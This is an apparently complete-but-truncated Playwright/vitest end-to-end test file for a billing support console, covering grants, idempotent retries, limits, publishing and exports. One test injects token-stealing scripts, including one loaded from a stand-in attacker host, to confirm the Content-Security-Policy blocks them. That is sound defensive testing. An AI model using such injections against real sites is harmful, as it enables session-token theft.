/**
 * The support console in real headless Chromium (Debian's /usr/bin/chromium,
 * driven by playwright-core) against the real gateway and services on real
 * PostgreSQL. Screenshots of the main pages go to test-results/screenshots/.
 */
import { readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Browser, Page } from "playwright-core";
import type { Gateway } from "@tollgate/gateway";
import { call, createClient } from "@tollgate/grpc-kit";
import { commonV1, entitlementsV1, ledgerV1, type pricingV1 } from "@tollgate/proto";
import { createTestDatabase, eventually, type TestDatabase } from "@tollgate/testing";
import { formatAmount } from "../admin/src/money.js";
import { replies, seedStarter } from "./fixtures.js";
import { cspViolations, screenshotDir, signInPage, startConsole, type ConsoleUnderTest } from "./browser.js";
import { startPlatform, type Platform } from "./platform.js";

let db: TestDatabase;
let platform: Platform;
let gateway: Gateway;
let ui: ConsoleUnderTest;
let browser: Browser;

beforeAll(async () => {
  db = await createTestDatabase();
  platform = await startPlatform(db.url);
  // A cycle that began ten days ago, and 80 of its 100 credits used over the last three days in five charges (reported late):
  // red icon, and at this rate the credits run out before the cycle ends (enough history for the run-out rule).
  const DAY = 86_400_000;
  await seedStarter(platform, "acme", { cycleAnchor: new Date(Date.now() - 10 * DAY) });
  for (const [i, [count, daysAgo]] of ([[4, 3], [3, 2.5], [3, 2], [3, 1.5], [3, 1]] as const).entries()) {
    await call(platform.clients.ledger, platform.clients.ledger.charge, ledgerV1.ChargeRequest.fromPartial({
      accountId: "acme", usage: replies("gpt-4o", count), final: true, idempotencyKey: `browser-spend-${i}`, occurredAt: new Date(Date.now() - daysAgo * DAY),
    }));
  }
  ui = await startConsole(platform, db.url);
  ({ gateway, browser } = ui);
}, 180_000);

afterAll(async () => {
  await ui?.stop();
  await platform?.stop();
  await db?.drop();
});

const signIn = (username: string, password: string, path = "/"): Promise<Page> => signInPage(browser, gateway.url, username, password, path);

/** Vera's token, signed in once: each sign-in counts against her limit (20 in 15 minutes), which the pages' sign-ins need too. */
let viewerToken: Promise<string> | undefined;
const api = async (path: string) => {
  viewerToken ??= fetch(`${gateway.url}/api/login`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ username: "vera", password: "viewer-pass" }) })
    .then(async (login) => ((await login.json()) as { token: string }).token);
  return (await fetch(`${gateway.url}${path}`, { headers: { authorization: `Bearer ${await viewerToken}` } })).json() as Promise<Record<string, any>>;
};

/** Opens the account page's grant dialog, asks for `amount` bonus credits with `reason`, and submits it (the dialog may stay open: an error). */
async function submitGrant(page: Page, amount: string, reason: string): Promise<void> {
  await page.getByTestId("grant-button").click();
  await page.getByTestId("grant-dialog").waitFor();
  await page.getByTestId("grant-pool-kind").selectOption("bonus");
  await page.getByTestId("grant-amount").fill(amount);
  await page.getByTestId("grant-reason").fill(reason);
  await page.getByTestId("grant-submit").click();
}

/** Submits an action dialog without a reason (it must stay open and send nothing), then with one. */
async function submitWithReason(page: Page, dialog: string, reason: string): Promise<void> {
  await page.getByTestId(`${dialog}-submit`).click();
  expect(await page.getByTestId(`${dialog}-dialog`).isVisible()).toBe(true);
  await page.getByTestId(`${dialog}-reason`).fill(reason);
  await page.getByTestId(`${dialog}-submit`).click();
  await page.getByTestId(`${dialog}-dialog`).waitFor({ state: "hidden" });
}

/** Opens the first row's detail panel on one of acme's tabs, waits for `shows` in it, takes a screenshot and returns the panel's text. */
async function detailPanel(tab: string, kind: "guardrail" | "script", shows: string): Promise<string> {
  const page = await signIn("vera", "viewer-pass", `/#/tollgate-accounts/acme/show/${tab}`);
  await page.getByTestId(`${kind}-row`).first().click();
  const panel = page.getByTestId(`${kind}-panel`);
  await panel.getByText(shows).first().waitFor();
  const text = (await panel.textContent()) ?? "";
  await page.waitForTimeout(500); // let the drawer finish sliding in before the screenshot
  await page.screenshot({ path: `${screenshotDir}/${kind}-panel.png`, fullPage: true });
  await page.close();
  return text;
}

/** Publishes rates for guardrail CPUs and script hosting profiles, then deploys on `hardware` once the ledger prices it. */
async function deployOnHardware(deploymentId: string, hardware: pricingV1.Usage, labels: Record<string, string> = {}): Promise<void> {
  const { pricing, ledger } = platform.clients;
  await call(pricing, pricing.publishRateTable, {
    tableId: "default", effectiveFrom: new Date(Date.now() - 1_000), actor: "test", reason: "add hardware rates", idempotencyKey: "",
    rates: [
      { bucket: commonV1.Bucket.BUCKET_AI, unit: commonV1.Unit.UNIT_CREDITS, kind: { $case: "modelReply", modelReply: { model: "gpt-4o", microsPerReply: "5000000" } } },
      { bucket: commonV1.Bucket.BUCKET_COMPUTE, unit: commonV1.Unit.UNIT_CREDITS, kind: { $case: "cpuCoreHour", cpuCoreHour: { cpuType: "xeon-4", microsPerCoreHour: "3600000" } } },
      { bucket: commonV1.Bucket.BUCKET_COMPUTE, unit: commonV1.Unit.UNIT_CREDITS, kind: { $case: "hardwareProfileHour", hardwareProfileHour: { profile: "script-medium", vcpus: 2, memoryMib: 4096, microsPerHour: "500000" } } },
    ],
  });
  const deployed = await eventually(async () => {
    const r = await call(ledger, ledger.deploy, ledgerV1.DeployRequest.fromPartial({
      accountId: "acme", deploymentId, replicas: 1, idempotencyKey: `${deploymentId}-${Date.now()}`, hardware, labels,
    })).catch(() => undefined);
    return r?.allowed ? r : undefined;
  }, 5_000, "the new rate to reach the ledger");
  expect(deployed.allowed).toBe(true);
}

describe("support console in Chromium", () => {
  it("shows the account's status icon and run-out projection as the ledger computes them", async () => {
    const page = await signIn("vera", "viewer-pass", "/#/tollgate-accounts/acme/show");
    const account = await api("/api/accounts/acme");
    const credits = account.balance.units.find((u: { unit: string }) => u.unit === "credits");
    await expect.poll(() => page.getByTestId("status-icon").getAttribute("data-state")).toBe(credits.status_icon);
    expect(credits.status_icon).toBe("red");
    await page.getByTestId("run-out-warning").waitFor();
    expect(account.balance.cycle.will_run_out_before_cycle_end).toBe(true);
    await expect.poll(() => page.getByTestId("balance-credits").textContent()).toContain("20");
    // The 80 % banner stands for the 20, 50 and 70 % ones, which wait behind a toggle.
    const banners = page.getByTestId("account-banners");
    await banners.getByText("You have used 80%").waitFor();
    expect(await banners.getByText("You have used 50%").count()).toBe(0);
    expect(await page.getByTestId("earlier-banners").textContent()).toBe("3 earlier banners not dismissed");
    await page.screenshot({ path: `${screenshotDir}/account-summary.png`, fullPage: true });
    await page.getByTestId("earlier-banners").click();
    await banners.getByText("You have used 50%").waitFor();
    await page.close();
  });

  it("does not let a viewer grant credits", async () => {
    const page = await signIn("vera", "viewer-pass", "/#/tollgate-accounts/acme/show");
    const grant = page.getByTestId("grant-button");
    await grant.waitFor();
    expect(await grant.isDisabled()).toBe(true);
    await page.close();
  });

  it("lets an operator grant 500 bonus credits with a reason, then shows the balance, the ledger entry and the audit row", async () => {
    const page = await signIn("otto", "operator-pass", "/#/tollgate-accounts/acme/show");
    await submitGrant(page, "500", "apology for the outage on 21 Nov");
    await page.getByTestId("grant-dialog").waitFor({ state: "hidden" });
    await expect.poll(() => page.getByTestId("balance-credits").textContent(), { timeout: 10_000 }).toContain("520");
    await page.screenshot({ path: `${screenshotDir}/account-after-grant.png`, fullPage: true });

    await page.goto(`${gateway.url}/#/tollgate-accounts/acme/show/ledger`);
    await page.getByText("apology for the outage on 21 Nov").first().waitFor();
    await page.screenshot({ path: `${screenshotDir}/account-ledger.png`, fullPage: true });

    // A meter credential's Grant is refused, and the ledger records the attempt.
    const meter = createClient(ledgerV1.LedgerServiceClient, platform.ledger.address, { credentials: platform.issuer!.credential("meter-probe", ["meter"]) });
    const refused = await call(meter, meter.grant, ledgerV1.GrantRequest.fromPartial({
      accountId: "acme", poolKind: entitlementsV1.PoolKind.POOL_KIND_BONUS, unit: commonV1.Unit.UNIT_CREDITS, amountMicros: "1000000", reason: "probe", idempotencyKey: "probe",
    })).then(() => undefined, (error: Error) => error);
    meter.close();
    expect(refused).toBeDefined();

    await page.goto(`${gateway.url}/#/tollgate-audit`);
    const row = page.getByRole("row").filter({ hasText: "apology for the outage on 21 Nov" });
    await row.first().waitFor();
    expect(await row.first().textContent()).toContain("otto");
    // The ledger's own record of the gRPC Grant: the gateway's principal, acting for otto.
    const grpcGrant = page.getByRole("row").filter({ hasText: /Grant/ }).filter({ hasText: "apology for the outage on 21 Nov" });
    expect(await grpcGrant.first().textContent()).toMatch(/gateway.*otto/);
    await page.getByRole("row").filter({ hasText: "meter-probe" }).filter({ hasText: "PERMISSION_DENIED" }).first().waitFor();
    await page.screenshot({ path: `${screenshotDir}/audit-log.png`, fullPage: true });
    // Narrowed to the refused calls, then to who made them: the grant's rows go, the probe's stays.
    await page.getByLabel("Outcome").click();
    await page.getByRole("option", { name: "Refused", exact: true }).click();
    const apology = page.getByRole("row").filter({ hasText: "apology for the outage on 21 Nov" });
    await expect.poll(() => apology.count()).toBe(0);
    await page.getByRole("row").filter({ hasText: "meter-probe" }).first().waitFor();
    await page.getByLabel("Who").fill("meter-probe");
    const shown = page.locator("tbody tr").filter({ hasText: /\S/ });
    await expect.poll(async () => {
      const texts = await shown.allTextContents();
      return texts.length > 0 && texts.every((text) => text.includes("meter-probe"));
    }).toBe(true);
    expect(decodeURIComponent(page.url())).toContain('"refused":"true"');

    const entries = await api("/api/entries?account_id=acme&kind=grant");
    // The journal's actor is the gateway's principal; the console user it acted for is recorded beside it.
    expect(entries.data[0]).toMatchObject({ amount_micros: "500000000", actor: "gateway", on_behalf_of: "otto", reason: "apology for the outage on 21 Nov" });
    await page.close();
  });

  it("grants once when the answer to a grant is lost and the operator submits again: both tries carry one Idempotency-Key, the next grant another", async () => {
    await seedStarter(platform, "lost-answer-co");
    const page = await signIn("otto", "operator-pass", "/#/tollgate-accounts/lost-answer-co/show");
    const keys: string[] = [];
    let loseAnswer = true;
    await page.route("**/api/accounts/lost-answer-co/grants", async (route) => {
      keys.push(route.request().headers()["idempotency-key"] ?? "");
      if (!loseAnswer) return route.continue();
      loseAnswer = false;
      // The gateway grants; its answer never reaches the browser.
      await route.fetch();
      await route.abort("connectionreset");
    });
    const grant = async (reason: string, retryAfterError: boolean) => {
      await submitGrant(page, "7", reason);
      if (retryAfterError) {
        await page.getByTestId("grant-error").waitFor();
        await page.getByTestId("grant-submit").click();
      }
      await page.getByTestId("grant-dialog").waitFor({ state: "hidden" });
    };
    await grant("goodwill after the lost answer", true);
    await grant("a second, separate goodwill grant", false);

    expect(keys).toHaveLength(3);
    expect(keys[0]).toMatch(/^ui-[0-9a-f]{32}$/);
    expect(keys[1], "the retry sends the first try's key").toBe(keys[0]);
    expect(keys[2], "a new submission is a new action").not.toBe(keys[0]);
    const entries = await api("/api/entries?account_id=lost-answer-co&kind=grant");
    const reasons = (entries.data as { reason: string }[]).map((e) => e.reason);
    expect(reasons.filter((r) => r === "goodwill after the lost answer")).toHaveLength(1);
    expect(reasons.filter((r) => r === "a second, separate goodwill grant")).toHaveLength(1);

    // The answer is lost again, and the operator changes the amount before trying again: the gateway refuses the key for
    // other values, and the dialog says the earlier try went through instead of showing a bare 409.
    loseAnswer = true;
    await submitGrant(page, "7", "goodwill, then changed");
    await page.getByTestId("grant-error").waitFor();
    await page.getByTestId("grant-amount").fill("9");
    await page.getByTestId("grant-submit").click();
    await expect.poll(() => page.getByTestId("grant-error").textContent()).toContain("Your earlier try went through");
    expect(keys[4]).toBe(keys[3]);
    const after = await api("/api/entries?account_id=lost-answer-co&kind=grant");
    expect((after.data as { reason: string; amount_micros: string }[]).filter((e) => e.reason === "goodwill, then changed").map((e) => e.amount_micros)).toEqual(["7000000"]);
    await page.getByRole("button", { name: "Cancel" }).click();
    await page.getByTestId("grant-dialog").waitFor({ state: "hidden" });

    // The answer is lost, the operator cancels, comes back to the account later and grants the same: the dialog still
    // holds the lost try's key (and says the try may have been done), so the account is granted once.
    loseAnswer = true;
    await submitGrant(page, "11", "goodwill, cancelled, then sent again");
    await page.getByTestId("grant-error").waitFor();
    await page.getByRole("button", { name: "Cancel" }).click();
    await page.getByTestId("grant-dialog").waitFor({ state: "hidden" });
    // Meanwhile, on another account's page (the console keeps the dialog mounted as the page changes under it), a grant is an
    // action of its own, under a key of its own: not the lost try's.
    await seedStarter(platform, "meanwhile-co");
    const otherKeys: string[] = [];
    await page.route("**/api/accounts/meanwhile-co/grants", (route) => {
      otherKeys.push(route.request().headers()["idempotency-key"] ?? "");
      return route.continue();
    });
    await page.goto(`${gateway.url}/#/tollgate-accounts/meanwhile-co/show`);
    await page.getByTestId("grant-button").click();
    await page.getByTestId("grant-dialog").waitFor();
    expect(await page.getByTestId("grant-error").count(), "no warning about another account's try").toBe(0);
    await page.getByRole("button", { name: "Cancel" }).click();
    await submitGrant(page, "2", "a grant on another account meanwhile");
    await page.getByTestId("grant-dialog").waitFor({ state: "hidden" });
    expect(otherKeys).toHaveLength(1);
    expect(otherKeys[0]).not.toBe(keys[5]);
    await page.goto(`${gateway.url}/#/tollgate-accounts/lost-answer-co/show`);
    await page.reload();
    await page.getByTestId("grant-button").click();
    await expect.poll(() => page.getByTestId("grant-error").textContent()).toContain("may have been done");
    await page.getByTestId("grant-pool-kind").selectOption("bonus");
    await page.getByTestId("grant-amount").fill("11");
    await page.getByTestId("grant-reason").fill("goodwill, cancelled, then sent again");
    await page.getByTestId("grant-submit").click();
    await page.getByTestId("grant-dialog").waitFor({ state: "hidden" });
    expect(keys[6], "the try after a cancel sends the lost try's key").toBe(keys[5]);
    const last = await api("/api/entries?account_id=lost-answer-co&kind=grant");
    expect((last.data as { reason: string }[]).filter((e) => e.reason === "goodwill, cancelled, then sent again")).toHaveLength(1);
    // Settled: the next grant is a new action.
    await submitGrant(page, "1", "a last, separate grant");
    await page.getByTestId("grant-dialog").waitFor({ state: "hidden" });
    expect(keys[7]).not.toBe(keys[5]);
    await page.close();
  }, 120_000);

  it("lets an operator override the account's limits through the dialog, asking for a reason", async () => {
    const page = await signIn("otto", "operator-pass", "/#/tollgate-accounts/acme/show");
    await page.getByTestId("limits-button").click();
    await page.getByTestId("limits-dialog").waitFor();
    await page.getByTestId("limits-low-credit").fill("10");
    await page.getByTestId("limits-negative").fill("25");
    await submitWithReason(page, "limits", "long-standing customer, allow overdraft");
    await page.getByTestId("limit-override-credits").waitFor();
    expect(await page.getByTestId("limit-override-credits").textContent()).toContain("25 credits");
    const account = await api("/api/accounts/acme");
    expect(account.limit_overrides).toEqual([{ unit: "credits", low_credit_limit_micros: "10000000", negative_limit_micros: "25000000" }]);
    const audit = await api("/api/audit?account_id=acme");
    const changes = audit.data.filter((row: { action: string }) => row.action === "set_limits");
    expect(changes).toHaveLength(1); // the attempt without a reason sent nothing
    expect(changes[0]).toMatchObject({ actor: "otto", reason: "long-standing customer, allow overdraft" });
    await page.close();
  });

  it("shows a guardrail deployment's hardware, time and credits in the Guardrails tab's detail panel", async () => {
    await deployOnHardware("pii-guard", { kind: { $case: "cpuTime", cpuTime: { cpuType: "xeon-4", cores: "2", seconds: "0" } } });
    const { ledger } = platform.clients;
    await new Promise((resolve) => setTimeout(resolve, 1_200));
    await call(ledger, ledger.undeploy, { accountId: "acme", deploymentId: "pii-guard", idempotencyKey: "pii-guard-undeploy" });

    const text = await detailPanel("guardrails", "guardrail", "xeon-4");
    expect(text).toContain("pii-guard");
  });

  it("shows a script's hosting profile, vCPUs and memory in the Custom scripts tab's detail panel", async () => {
    await deployOnHardware("invoice-parser", { kind: { $case: "hardwareProfileTime", hardwareProfileTime: { profile: "script-medium", seconds: "0" } } }, { language: "Python 3.12" });
    const { ledger } = platform.clients;
    const text = await detailPanel("scripts", "script", "2 vCPUs · 4 GiB");
    expect(text).toContain("Python 3.12");
    expect(text).toContain("invoice-parser");
    expect(text).toContain("script-medium");
    await call(ledger, ledger.undeploy, { accountId: "acme", deploymentId: "invoice-parser", idempotencyKey: "invoice-parser-undeploy" });
  });

  it("lets an operator set a BYOM account's spend cap through the dialog, asking for a reason", async () => {
    const { entitlements } = platform.clients;
    await call(entitlements, entitlements.createAccount, entitlementsV1.CreateAccountRequest.fromPartial({
      accountId: "byom-co", name: "BYOM Co", planId: "starter", seats: 3,
      billingMode: entitlementsV1.BillingMode.BILLING_MODE_BYOM_USD, spendCapMicros: String(100 * 1_000_000),
    }));
    const page = await signIn("otto", "operator-pass", "/#/tollgate-accounts/byom-co/show");
    await page.getByTestId("spend-cap-button").click();
    await page.getByTestId("spend-cap-dialog").waitFor();
    expect(await page.getByTestId("spend-cap-amount").inputValue()).toBe("100");
    await page.getByTestId("spend-cap-amount").fill("250");
    await submitWithReason(page, "spend-cap", "approved budget increase for Q4");
    await eventually(async () => ((await api("/api/accounts/byom-co")).spend_cap_micros === "250000000" ? true : undefined), 5_000, "the new cap");
    const audit = await api("/api/audit?account_id=byom-co");
    const changes = audit.data.filter((row: { action: string }) => row.action === "set_spend_cap");
    expect(changes).toHaveLength(1);
    expect(changes[0]).toMatchObject({ actor: "otto", reason: "approved budget increase for Q4" });
    await page.close();
  });

  it("serves the host back-office example with its own resource beside the plugin's pages", async () => {
    const page = await signIn("vera", "viewer-pass", "/host.html");
    for (const label of ["Customers", "Accounts", "Audit log"]) await page.getByRole("menuitem", { name: label }).first().waitFor();
    await page.getByRole("menuitem", { name: "Customers" }).first().click();
    await page.waitForURL((url) => url.hash.includes("customers"));
    await page.screenshot({ path: `${screenshotDir}/host-example.png`, fullPage: true });
    await page.getByRole("menuitem", { name: "Accounts" }).first().click();
    await page.getByText("acme").first().waitFor();
    await page.close();
  });

  it("lets an admin publish a new version of a rate table from the one shown, with a reason, and opens it", async () => {
    await call(platform.clients.pricing, platform.clients.pricing.publishRateTable, {
      tableId: "console-rates", effectiveFrom: new Date(Date.now() - 60_000), actor: "test", reason: "seed", idempotencyKey: "",
      rates: [{ bucket: commonV1.Bucket.BUCKET_AI, unit: commonV1.Unit.UNIT_CREDITS, kind: { $case: "modelReply", modelReply: { model: "gpt-4o", microsPerReply: "5000000" } } }],
    });
    const viewer = await signIn("vera", "viewer-pass", "/#/tollgate-rate-tables/console-rates@1/show");
    expect(await viewer.getByTestId("publish-version-button").isDisabled()).toBe(true);
    await viewer.close();
    const page = await signIn("ada", "admin-pass", "/#/tollgate-rate-tables/console-rates@1/show");
    await page.getByTestId("publish-version-button").click();
    const rates = page.getByTestId("publish-version-rates");
    expect(await rates.inputValue()).toContain('"microsPerReply": "5000000"');
    await rates.fill((await rates.inputValue()).replace('"5000000"', '"6000000"'));
    await page.getByTestId("publish-version-submit").click();
    expect(await page.getByTestId("publish-version-dialog").isVisible()).toBe(true); // no reason: nothing sent
    await page.getByTestId("publish-version-reason").fill("gpt-4o replies cost 6 credits");
    await page.screenshot({ path: `${screenshotDir}/rate-table-publish.png`, fullPage: true });
    await page.getByTestId("publish-version-submit").click();
    await page.waitForURL((url) => /console-rates(@|%40)2/.test(url.hash), { timeout: 10_000 });
    const { table } = await call(platform.clients.pricing, platform.clients.pricing.getRateTable, { tableId: "console-rates", version: "0", at: undefined, sequence: "0" });
    expect(table).toMatchObject({ version: "2", rates: [{ kind: { $case: "modelReply", modelReply: { microsPerReply: "6000000" } } }] });
    // The version names the admin it was published for, beside the gateway that published it.
    await page.getByText("ada (via gateway)").waitFor();
    await page.close();
  });

  it("lets an admin publish a new version of a plan from the one shown, with a reason, and opens it", async () => {
    const { plans } = await call(platform.clients.entitlements, platform.clients.entitlements.listPlans, { page: { pageSize: 100, pageToken: "" }, allVersions: false });
    const starter = plans.find((p) => p.planId === "starter")!;
    const shown = `/#/tollgate-plans/${encodeURIComponent(`starter@${starter.version}`)}/show`;
    const viewer = await signIn("vera", "viewer-pass", shown);
    expect(await viewer.getByTestId("publish-plan-button").isDisabled()).toBe(true);
    await viewer.close();
    const page = await signIn("ada", "admin-pass", shown);
    await page.getByTestId("publish-plan-button").click();
    const document = page.getByTestId("publish-plan-plan");
    const text = await document.inputValue();
    expect(text).toContain('"planId": "starter"');
    expect(text).not.toContain('"publishedAt"');
    expect(text).not.toContain('"publishedBy"');
    // A typo in a key: entitlements' reader names it and nothing is published.
    await document.fill(text.replace('"name": "Starter"', '"nmae": "Starter"'));
    await page.getByTestId("publish-plan-reason").fill("starter becomes Starter Plus");
    await page.getByTestId("publish-plan-submit").click();
    await page.getByTestId("publish-plan-dialog").getByText("plan.nmae: is not a known field").first().waitFor();
    await document.fill(text.replace('"name": "Starter"', '"name": "Starter Plus"'));
    await page.screenshot({ path: `${screenshotDir}/plan-publish.png`, fullPage: true });
    await page.getByTestId("publish-plan-submit").click();
    await page.waitForURL((url) => !url.hash.includes(encodeURIComponent(`starter@${starter.version}`)) && /starter(@|%40)\d+/.test(url.hash), { timeout: 10_000 });
    await page.getByText("Starter Plus").first().waitFor();
    await page.getByText("ada (via gateway)").waitFor(); // the admin it was published for, beside the gateway that published it
    const { plan } = await call(platform.clients.entitlements, platform.clients.entitlements.getPlan, { planId: "starter", version: "0" });
    expect(plan).toMatchObject({ name: "Starter Plus", allotments: starter.allotments });
    expect(BigInt(plan!.version)).toBeGreaterThan(BigInt(starter.version));
    await page.close();
  });

  it("downloads an account's entries as CSV from the ledger explorer, page after page, amounts exact", async () => {
    const { ledger } = platform.clients;
    const listed = (await call(ledger, ledger.listEntries, ledgerV1.ListEntriesRequest.fromPartial({ accountId: "acme", page: { pageSize: 500, pageToken: "" } }))).entries;
    const page = await signIn("vera", "viewer-pass", "/#/tollgate-entries");
    expect(await page.getByTestId("export-entries").isDisabled()).toBe(true); // no account yet
    await page.goto(`${gateway.url}/#/tollgate-entries?filter=${encodeURIComponent(JSON.stringify({ account_id: "acme" }))}`);
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByTestId("export-entries").click()]);
    expect(download.suggestedFilename()).toBe("entries-acme.csv");
    const [header, ...rows] = readFileSync((await download.path())!, "utf8").trimEnd().split("\r\n");
    expect(header).toMatch(/^entry_id,created_at,occurred_at,account_id,kind,unit,bucket,amount,amount_micros,/);
    expect(rows.map((row) => row.split(",")[0])).toEqual(listed.map((e) => e.entryId));
    const allotment = rows.find((row) => row.split(",")[8] === "100000000");
    expect(allotment?.split(",")[7]).toBe("100");
    // A mistyped account is said to be one, not shown as an account with no history.
    await page.goto(`${gateway.url}/#/tollgate-entries?filter=${encodeURIComponent(JSON.stringify({ account_id: "acmee" }))}`);
    await expect.poll(() => page.getByTestId("empty-state").first().textContent()).toContain('No account "acmee"');
    await page.close();
  });

  it("lists and exports one period of an account's entries, picked in the ledger explorer's filters in the browser's own time", async () => {
    const { ledger } = platform.clients;
    const all = (await call(ledger, ledger.listEntries, ledgerV1.ListEntriesRequest.fromPartial({ accountId: "acme", page: { pageSize: 500, pageToken: "" } }))).entries;
    const page = await signIn("vera", "viewer-pass", `/#/tollgate-entries?filter=${encodeURIComponent(JSON.stringify({ account_id: "acme" }))}`);
    await page.getByTestId("entry-balance-effect").first().waitFor();
    // What a person would type in the picker for a moment this far from now, in the browser's time zone.
    const picked = (offsetMs: number) => page.evaluate((offset) => {
      const at = new Date(Date.now() + offset);
      const two = (n: number) => String(n).padStart(2, "0");
      return `${at.getFullYear()}-${two(at.getMonth() + 1)}-${two(at.getDate())}T${two(at.getHours())}:${two(at.getMinutes())}:${two(at.getSeconds())}`;
    }, offsetMs);
    await page.getByRole("button", { name: "Add filter" }).click();
    await page.getByRole("menuitemcheckbox", { name: "Recorded from" }).click();
    const from = page.getByLabel("Recorded from");
    const later = await picked(60 * 60_000); // an hour from now, to the second: nothing recorded yet
    await from.fill(later);
    await expect.poll(() => page.getByTestId("empty-state").first().textContent()).toContain("No entries match these filters");
    const sent = /"recorded_from":"([^"]+)"/.exec(decodeURIComponent(page.url()))?.[1];
    expect(sent).toBe(await page.evaluate((local) => new Date(local).toISOString(), later)); // sent as the instant it names, seconds and all
    // Shown back as picked (the picker leaves out a zero second: 20:34 is 20:34:00).
    const instantOf = (local: string) => page.evaluate((text) => new Date(text).getTime(), local);
    expect(await instantOf(await from.inputValue())).toBe(await instantOf(later));
    await from.fill(await picked(-60 * 60_000)); // an hour ago: everything this test recorded
    await page.getByTestId("entry-balance-effect").first().waitFor();
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByTestId("export-entries").click()]);
    const rows = readFileSync((await download.path())!, "utf8").trimEnd().split("\r\n").slice(1);
    expect(rows.map((row) => row.split(",")[0]).sort()).toEqual(all.map((e) => e.entryId).sort());
    await page.close();
  });

  it("signs each entry by what it did to the balance, whatever its kind, and loads a page asking for nothing missing", async () => {
    const { ledger } = platform.clients;
    const charged = await call(ledger, ledger.charge, ledgerV1.ChargeRequest.fromPartial({ accountId: "acme", usage: replies("gpt-4o", 1), final: true, idempotencyKey: "browser-signed-charge" }));
    await call(ledger, ledger.reverseCharge, { accountId: "acme", entryId: charged.entryId, reason: "the signs", actor: "", idempotencyKey: "browser-signed-reverse" });
    const page = await signIn("vera", "viewer-pass", "/#/tollgate-entries");
    const errors: string[] = [];
    page.on("console", (message) => void (message.type() === "error" && errors.push(message.text())));
    await page.goto(`${gateway.url}/#/tollgate-entries?filter=${encodeURIComponent(JSON.stringify({ account_id: "acme" }))}`);
    await page.reload(); // a whole page load, icon and all
    const effects = page.getByTestId("entry-balance-effect");
    await effects.first().waitFor();
    // Newest first: the reversal gave the charge back (+), the charge took it (−); the entries' own amounts are 5 and −5.
    const amount = formatAmount(charged.chargedMicros, "credits", { exact: true });
    expect(await effects.nth(0).textContent()).toBe(`+${amount}`);
    expect(await effects.nth(1).textContent()).toBe(`-${amount}`);
    // Nothing the page asks for is missing (the browser asked for /favicon.ico on every load: a 404).
    expect(errors.filter((e) => e.startsWith("Failed to load resource"))).toEqual([]);
    await page.close();
  });

  it("renders the plans, rate tables, work in flight and notifications pages", async () => {
    await call(platform.clients.ledger, platform.clients.ledger.authorize, ledgerV1.AuthorizeRequest.fromPartial({
      accountId: "acme", estimate: replies("gpt-4o", 1), idempotencyKey: "browser-open-hold", ttlMs: "600000",
    }));
    const page = await signIn("vera", "viewer-pass", "/#/tollgate-plans");
    await page.getByText("starter").first().waitFor();
    await page.screenshot({ path: `${screenshotDir}/plans.png`, fullPage: true });
    await page.goto(`${gateway.url}/#/tollgate-rate-tables`);
    await page.getByText("default").first().waitFor();
    await page.screenshot({ path: `${screenshotDir}/rate-tables.png`, fullPage: true });
    await page.goto(`${gateway.url}/#/tollgate-holds`);
    await page.getByTestId("holds-list").waitFor();
    await page.getByText("acme").first().waitFor();
    await page.screenshot({ path: `${screenshotDir}/holds-in-flight.png`, fullPage: true });
    await page.goto(`${gateway.url}/#/tollgate-work`);
    await page.getByTestId("work-list").waitFor();
    await page.screenshot({ path: `${screenshotDir}/runs-and-deployments.png`, fullPage: true });
    await page.goto(`${gateway.url}/#/tollgate-notifications`);
    await page.waitForLoadState("networkidle");
    await page.screenshot({ path: `${screenshotDir}/notifications.png`, fullPage: true });
    // Everything above ran under the gateway's Content-Security-Policy, and nothing of the console's own was refused.
    expect(cspViolations(page)).toEqual([]);
    await page.close();
  });

  it("does not run a script injected into the console's page (its Content-Security-Policy), so the token in localStorage stays unread", async () => {
    const page = await signIn("ada", "admin-pass", "/#/tollgate-accounts/acme/show/overview");
    await page.getByTestId("overview-credits").waitFor();
    expect(cspViolations(page)).toEqual([]);
    // What a stored value rendered as HTML could do: an inline script, an inline event handler, a script from another origin.
    await page.evaluate(`
      const inline = document.createElement("script");
      inline.textContent = "window.__stolen = localStorage.getItem('tollgate.token')";
      document.body.append(inline);
      const image = document.createElement("img");
      image.setAttribute("src", "data:,");
      image.setAttribute("onerror", "window.__stolen = localStorage.getItem('tollgate.token')");
      document.body.append(image);
      const remote = document.createElement("script");
      remote.src = "https://attacker.example/steal.js";
      document.body.append(remote);
    `);
    await eventually(async () => (cspViolations(page).length >= 3 ? true : undefined), 10_000, "the three injected scripts refused");
    expect(await page.evaluate(() => (globalThis as unknown as { __stolen?: string }).__stolen)).toBeUndefined();
    // The token is there to steal: only the policy stopped it.
    expect(await page.evaluate(() => localStorage.getItem("tollgate.token"))).toMatch(/^ey/);
    expect(cspViolations(page)).toEqual([
      expect.stringContaining("script-src 'self'"),
      expect.stringContaining("script-src 'self'"),
      expect.stringContaining("script-src 'self'"),
    ]);
    await page.close();
  });

  it("shows where an account's alert emails go and lets an operator change the recipients with a reason, naming a refused address", async () => {
    const page = await signIn("otto", "operator-pass", "/#/tollgate-accounts/acme/show/alerts");
    const list = page.getByTestId("alert-recipients-list");
    await list.getByText("admin@example.com").waitFor();
    const source = async () => (await page.getByTestId("alert-recipients-source").textContent()) ?? "";
    expect(await source()).toContain("The account's admins");
    await page.getByTestId("recipients-edit-button").click();
    await page.getByTestId("recipients-emails").fill("ops@acme.example\nnot-an-address");
    await page.getByTestId("recipients-reason").fill("the customer's ops team takes alerts");
    await page.getByTestId("recipients-submit").click();
    const error = page.getByTestId("recipients-error");
    await error.waitFor();
    expect(await error.getAttribute("data-field")).toBe("email_recipients[1]");
    await page.getByTestId("recipients-emails").fill("ops@acme.example, billing@acme.example");
    await page.getByTestId("recipients-submit").click();
    await page.getByTestId("recipients-dialog").waitFor({ state: "hidden" });
    await list.getByText("billing@acme.example").waitFor();
    expect(await list.getByText("admin@example.com").count()).toBe(0);
    expect(await source()).toContain("own recipients");
    await page.screenshot({ path: `${screenshotDir}/account-alerts.png`, fullPage: true });
    expect(cspViolations(page)).toEqual([]);
    await page.close();
    const audit = await api("/api/audit?account_id=acme");
    expect(audit.data).toEqual(expect.arrayContaining([expect.objectContaining({ action: "set_email_recipients", actor: "otto", reason: "the customer's ops team takes alerts" })]));
  });

  it("renders the Overview, Tools and Models tabs of an account", async () => {
    const page = await signIn("vera", "viewer-pass", "/#/tollgate-accounts/acme/show/overview");
    await page.getByTestId("overview-credits").waitFor();
    const account = await api("/api/accounts/acme");
